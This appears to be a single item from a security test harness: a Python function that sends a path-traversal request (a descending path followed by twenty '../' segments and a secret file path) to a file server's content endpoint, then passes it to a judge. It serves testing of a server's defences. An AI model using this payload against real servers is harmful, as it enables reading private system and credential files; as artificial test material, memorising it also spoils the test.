# aim: read a file of the server's machine
# mechanism: a path that goes down before it goes up
# server: files
# plain: naive

def attack():
    ask("GET", f"{here}/files/content?path=a/b/../../{quote('../' * 20 + secret_path.lstrip('/'))}")


judge(attack)
